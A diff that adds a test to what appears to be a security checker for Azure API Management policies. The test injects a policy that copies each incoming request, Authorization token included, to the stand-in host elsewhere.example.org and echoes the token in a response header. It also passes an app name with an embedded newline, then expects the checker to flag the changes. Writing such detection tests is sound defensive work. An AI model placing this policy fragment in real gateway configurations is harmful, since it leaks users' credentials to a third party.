@@ -268,6 +268,27 @@ describe('several apps', () => {
     expect(one.stdout).toContain('A policy sends `AddObservation`')
   })
 
+  test('a request of a policy may not take the token elsewhere, and an answer may not give it away', async () => {
+    let before: unknown
+    weather.edit(policy, properties => {
+      before = properties['value']
+      const value = String(before)
+        .replace(
+          '</inbound>',
+          '<send-one-way-request mode="copy"><set-url>https://elsewhere.example.org/x</set-url></send-one-way-request></inbound>'
+        )
+        .replace(
+          '<outbound>',
+          '<outbound><set-header name="X-Token"><value>@(context.Request.Headers["Authorization"][0])</value></set-header>'
+        )
+      return { ...properties, value }
+    })
+    const result = await check(home, { 'app-name': 'weather-backend\nalerts', slots: 'production' })
+    expect(rulesOf(result).sort()).toEqual(['AUTH001', 'MI011', 'POL015'])
+    expect(result.exitCode).toBe(1)
+    weather.edit(policy, properties => ({ ...properties, value: before }))
+  })
+
   test('a path that is open counts for the operations that go to that app', async () => {
     route('base-url="https://blue.azurewebsites.net/v2"')
     const far = `${paths.site.replace('weather-backend', 'blue')}/config/authsettingsV2`
